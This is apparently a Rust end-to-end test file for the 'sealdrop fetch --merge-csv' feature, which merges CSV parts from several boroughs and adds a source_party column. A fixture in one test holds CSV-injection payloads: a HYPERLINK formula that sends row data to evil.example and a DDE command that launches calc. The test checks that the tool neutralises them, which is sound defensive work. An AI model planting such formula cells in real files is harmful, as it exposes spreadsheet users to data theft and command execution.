//! `sealdrop fetch --merge-csv OUT.csv`: the CSV parts that several boroughs
//! sent one borough come out as one file with a `source_party` column.

use std::path::Path;

use sealdrop_e2e::{Hub, Party, json, list_dir, read_bytes, read_text, tree};

/// Camden's part: a byte order mark, CRLF line ends, a quoted comma, an
/// embedded line break, doubled quotes, accents and a blank line.
const CAMDEN_PART: &str = "\u{feff}upn,name,school,notes\r\n\
    A100,Zoë Brontë,\"St Mary's, Camden\",\"needs \"\"quiet\"\" room\"\r\n\
    \r\n\
    A101,Renée O'Neil,Argyle Primary,\"line one\r\nline two\"\r\n";

/// Hackney's part: the same header without a mark, LF line ends, no final newline.
const HACKNEY_PART: &str = "upn,name,school,notes\n\
    B200,Łukasz Nowak,\"Hackney, Free & Parochial\",\n\
    B201,José Núñez,Mossbourne,\"a, b and \"\"c\"\"\"";

/// A minimal RFC 4180 reader (the test crate has no CSV dependency): records
/// of fields, LF or CRLF terminated, quotes doubled inside quoted fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(!quoted, "unterminated quoted field in:\n{text}");
    if !field.is_empty() || !record.is_empty() {
        record.push(field);
        records.push(record);
    }
    records
}

fn row(fields: &[&str]) -> Vec<String> {
    fields.iter().map(|f| (*f).to_owned()).collect()
}

/// `sealdrop fetch --all -o DEST --merge-csv OUT EXTRA...` (paths relative to the work folder).
fn fetch_merge_args(dest: &str, out: &str, extra: &[&str]) -> Vec<String> {
    ["fetch", "--all", "-o", dest, "--merge-csv", out].iter().chain(extra).map(|a| (*a).to_owned()).collect()
}

#[test]
fn parts_from_two_boroughs_merge_into_one_file_with_the_sender_of_each_row() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let hackney = Party::new(&hub, "hackney");
    let islington = Party::new(&hub, "islington");
    let a = camden.file("out/camden-fsm-islington.csv", CAMDEN_PART);
    let b = hackney.file("out/hackney-fsm-islington.csv", HACKNEY_PART);
    let id_a = camden.send("islington", &[&a]);
    let id_b = hackney.send("islington", &[&b]);

    let out = islington.run(fetch_merge_args("in", "merged.csv", &[]));
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "fetch --merge-csv failed:\n{stderr}");

    // The parts are in place as a plain fetch leaves them, byte for byte.
    let inbox = islington.work().join("in");
    let got = tree(&inbox);
    assert_eq!(got.keys().collect::<Vec<_>>(), ["camden-fsm-islington.csv", "hackney-fsm-islington.csv"]);
    assert_eq!(got["camden-fsm-islington.csv"], CAMDEN_PART.as_bytes());
    assert_eq!(got["hackney-fsm-islington.csv"], HACKNEY_PART.as_bytes());
    assert!(islington.inbox_ids().is_empty(), "the drops were not acknowledged");

    let merged_path = islington.work().join("merged.csv");
    let bytes = read_bytes(&merged_path);
    // Camden's part had a byte order mark, so the merged file keeps one whichever part came first.
    assert!(bytes.starts_with(b"\xef\xbb\xbf"), "the merged file lost the byte order mark");
    let text = String::from_utf8(bytes[3..].to_vec()).expect("the merged file is UTF-8");
    assert!(!text.starts_with('\u{feff}'), "two byte order marks");
    // Record terminators are LF; the CRLF inside the quoted field stays.
    assert_eq!(text.matches("\r\n").count(), 1, "{text:?}");
    let records = parse_csv(&text);
    assert_eq!(records[0], row(&["upn", "name", "school", "notes", "source_party"]));
    let camden_rows = [
        row(&["A100", "Zoë Brontë", "St Mary's, Camden", "needs \"quiet\" room", "camden"]),
        row(&["A101", "Renée O'Neil", "Argyle Primary", "line one\r\nline two", "camden"]),
    ];
    let hackney_rows = [
        row(&["B200", "Łukasz Nowak", "Hackney, Free & Parochial", "", "hackney"]),
        row(&["B201", "José Núñez", "Mossbourne", "a, b and \"c\"", "hackney"]),
    ];
    // Drops merge in inbox order (commit time, then id), each part's rows in file order.
    let rows = &records[1..];
    let want: Vec<Vec<String>> = if rows.first().is_some_and(|r| r[4] == "camden") {
        camden_rows.iter().chain(hackney_rows.iter()).cloned().collect()
    } else {
        hackney_rows.iter().chain(camden_rows.iter()).cloned().collect()
    };
    assert_eq!(rows, want, "merged file:\n{text}");

    let line = stderr.lines().find(|l| l.starts_with("merged ")).unwrap_or_else(|| panic!("no summary:\n{stderr}"));
    assert!(line.starts_with("merged 4 rows from 2 parts (from "), "{line}");
    assert!(line.contains("camden") && line.contains("hackney") && line.ends_with("into merged.csv"), "{line}");
    assert!(stderr.contains(&id_a) && stderr.contains(&id_b), "{stderr}");
    assert!(!list_dir(&islington.work()).iter().any(|n| n.starts_with(".sealdrop-tmp")), "a temporary file was left");
}

#[test]
fn json_reports_the_drops_and_the_merge() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let islington = Party::new(&hub, "islington");
    // A folder: the CSV files inside it are parts too, in sorted order; other files are not.
    camden.file("fsm/b-islington.CSV", "upn,fsm\nA2,0\n");
    camden.file("fsm/a-islington.csv", "upn,fsm\r\nA1,1\r\n");
    camden.file("fsm/readme.txt", "not a part\n");
    let id = camden.send("islington", &[&camden.work().join("fsm")]);

    let v = json(&islington.ok(fetch_merge_args(".", "all.csv", &["--json"])));
    let drops = v["drops"].as_array().unwrap_or_else(|| panic!("no `drops` array: {v}"));
    assert_eq!(drops.len(), 1, "{v}");
    assert_eq!(drops[0]["ok"], true, "{v}");
    assert_eq!(drops[0]["drop"]["id"], id.as_str(), "{v}");
    assert_eq!(v["merged"]["rows"], 2, "{v}");
    assert_eq!(v["merged"]["parts"], 2, "{v}");
    assert_eq!(v["merged"]["path"], "all.csv", "{v}");
    assert_eq!(read_text(&islington.work().join("all.csv")), "upn,fsm,source_party\nA1,1,camden\nA2,0,camden\n");

    // Without --merge-csv the JSON stays an array.
    let v = json(&islington.ok(["fetch", "--all", "--json"]));
    assert!(v.is_array(), "{v}");
}

#[test]
fn different_headers_are_refused_after_the_fetch_and_nothing_is_merged() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let hackney = Party::new(&hub, "hackney");
    let islington = Party::new(&hub, "islington");
    let a = camden.file("camden-fsm-islington.csv", "upn,fsm\nA1,1\n");
    let b = hackney.file("hackney-fsm-islington.csv", "upn,FSM eligible\nB1,1\n");
    let id_a = camden.send("islington", &[&a]);
    let id_b = hackney.send("islington", &[&b]);

    let (exit, stderr) = islington.fail_code(fetch_merge_args("in", "merged.csv", &[]), "merge_headers_differ");
    assert_eq!(exit, 3, "{stderr}");
    let error = stderr.lines().find(|l| l.starts_with("error[")).expect("an error line");
    // Whichever part came second is named, with its drop.
    assert!(
        (error.contains("hackney-fsm-islington.csv") && error.contains(&id_b))
            || (error.contains("camden-fsm-islington.csv") && error.contains(&id_a)),
        "{error}"
    );
    assert!(error.contains("in place"), "{error}");
    assert!(!islington.work().join("merged.csv").exists(), "a merged file was written");
    assert_eq!(list_dir(&islington.work().join("in")), ["camden-fsm-islington.csv", "hackney-fsm-islington.csv"]);
    assert_eq!(list_dir(&islington.work()), ["in"], "something was left beside the fetched folder");
    assert!(islington.inbox_ids().is_empty(), "the fetch itself succeeded, so the drops were acknowledged");
}

#[test]
fn an_existing_output_is_refused_before_anything_is_fetched() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let islington = Party::new(&hub, "islington");
    let a = camden.file("camden-fsm-islington.csv", "upn,fsm\nA1,1\n");
    let id = camden.send("islington", &[&a]);
    islington.file("merged.csv", "keep me\n");

    let (_, stderr) = islington.fail_code(fetch_merge_args("in", "merged.csv", &[]), "output_exists");
    assert!(stderr.contains("merged.csv"), "{stderr}");
    assert_eq!(read_text(&islington.work().join("merged.csv")), "keep me\n");
    assert!(!islington.work().join("in").exists(), "fetch wrote something although the merge could not be written");
    assert_eq!(islington.inbox_ids(), [id], "the drop left the inbox");
}

#[test]
fn a_failed_drop_keeps_its_status_and_the_rest_still_merge() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let hackney = Party::new(&hub, "hackney");
    let islington = Party::new(&hub, "islington");
    let a = camden.file("camden-fsm-islington.csv", "upn,fsm\nA1,1\n");
    let b = hackney.file("hackney-fsm-islington.csv", "upn,fsm\nB1,1\n");
    camden.send("islington", &[&a]);
    let id_b = hackney.send("islington", &[&b]);
    // A file of the same name is already there, and so is the folder named
    // after the drop that a clash would use, so hackney's drop cannot be placed.
    islington.file("in/hackney-fsm-islington.csv", "older\n");
    islington.file(&format!("in/{id_b}"), "taken\n");

    let (exit, stderr) = islington.fail_code(fetch_merge_args("in", "merged.csv", &[]), "output_exists");
    assert_eq!(exit, 3, "{stderr}");
    assert!(stderr.contains("merged 1 row from 1 part (from camden) into merged.csv"), "{stderr}");
    assert_eq!(read_text(&islington.work().join("merged.csv")), "upn,fsm,source_party\nA1,1,camden\n");
    assert_eq!(islington.inbox_ids(), [id_b], "only the failed drop waits");
}

#[test]
fn no_csv_parts_writes_nothing_and_succeeds() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let islington = Party::new(&hub, "islington");
    let a = camden.file("notes.txt", "no table here\n");
    camden.send("islington", &[&a]);

    let out = islington.run(fetch_merge_args(".", "merged.csv", &[]));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.lines().any(|l| l == "no CSV parts to merge"), "{stderr}");
    assert!(!Path::new(&islington.work().join("merged.csv")).exists());
    assert_eq!(read_text(&islington.work().join("notes.txt")), "no table here\n");
}

/// A part with cells a spreadsheet would run: a link that sends the row
/// away when clicked, a DDE command, and a plain negative number (not a formula).
const FORMULA_PART: &str = "upn,name,note\n\
    A1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",-3\n\
    A2,+cmd|' /C calc'!A0,@SUM(1)\n";

#[test]
fn formula_cells_are_warned_about_on_fetch_and_neutralised_in_the_merge() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let islington = Party::new(&hub, "islington");
    camden.send("islington", &[&camden.file("pupils-islington.csv", FORMULA_PART)]);

    let out = islington.run(fetch_merge_args("in", "merged.csv", &[]));
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{stderr}");
    let warning =
        stderr.lines().find(|l| l.starts_with("warning: ")).unwrap_or_else(|| panic!("no warning:\n{stderr}"));
    assert!(warning.contains("in/pupils-islington.csv has 3 cell(s)"), "{warning}");
    assert!(
        stderr.contains("3 cells that a spreadsheet would run as a formula were written with a leading '"),
        "{stderr}"
    );
    // The received file is byte for byte what camden signed.
    assert_eq!(read_text(&islington.work().join("in/pupils-islington.csv")), FORMULA_PART);
    let merged = parse_csv(&read_text(&islington.work().join("merged.csv")));
    assert_eq!(merged[1], row(&["A1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-3", "camden"]));
    assert_eq!(merged[2], row(&["A2", "'+cmd|' /C calc'!A0", "'@SUM(1)", "camden"]));

    // `--json` reports the warning with the drop; `--keep-formulas` writes them as sent.
    let hackney = Party::new(&hub, "hackney");
    hackney.send("islington", &[&hackney.file("more-islington.csv", FORMULA_PART)]);
    let v = json(&islington.ok(fetch_merge_args("in2", "kept.csv", &["--keep-formulas", "--json"])));
    let formulas = &v["drops"][0]["drop"]["formulas"];
    assert_eq!(formulas[0]["cells"], 3, "{v}");
    assert!(formulas[0]["file"].as_str().is_some_and(|f| f.ends_with("more-islington.csv")), "{v}");
    assert_eq!(v["merged"]["neutralised"], 0, "{v}");
    let kept = parse_csv(&read_text(&islington.work().join("kept.csv")));
    assert_eq!(kept[2], row(&["A2", "+cmd|' /C calc'!A0", "@SUM(1)", "hackney"]));
}

#[test]
fn a_drop_cannot_plant_the_merge_output() {
    let hub = Hub::start();
    let camden = Party::new(&hub, "camden");
    let hackney = Party::new(&hub, "hackney");
    let islington = Party::new(&hub, "islington");
    // Camden's drop holds a file named like the merge output, so fetching
    // it into the same folder would create that file before the merge.
    let planted = camden.send("islington", &[&camden.file("merged.csv", "upn,fsm,source_party\nX1,1,camden\n")]);
    // Hackney's holds a folder that would hold it.
    hackney.file("sub/merged.csv", "upn,fsm,source_party\nX2,1,hackney\n");
    let folder = hackney.send("islington", &[&hackney.work().join("sub")]);
    let honest = camden.send("islington", &[&camden.file("camden-islington.csv", "upn,fsm\nA1,1\n")]);

    let run = |ids: &[&str], out: &str| {
        let mut args = vec!["fetch"];
        args.extend(ids.iter().copied());
        args.extend(["-o", "in", "--merge-csv", out]);
        islington.fail_code(args, "merge_output_in_drop")
    };
    let (exit, stderr) = run(&[&planted, &honest], "in/merged.csv");
    assert_eq!(exit, 3, "{stderr}");
    assert!(stderr.contains(&planted), "{stderr}");
    assert!(stderr.contains("merged 1 row from 1 part (from camden) into in/merged.csv"), "{stderr}");
    assert_eq!(read_text(&islington.work().join("in/merged.csv")), "upn,fsm,source_party\nA1,1,camden\n");
    let (_, stderr) = run(&[&folder], "in/sub/merged.csv");
    assert!(stderr.contains(&folder), "{stderr}");
    assert!(!islington.work().join("in/sub").exists(), "the drop's folder was placed");
    let mut waiting = islington.inbox_ids();
    waiting.sort();
    let mut want = vec![planted, folder];
    want.sort();
    assert_eq!(waiting, want, "only the refused drops wait; {honest} was acknowledged");
}
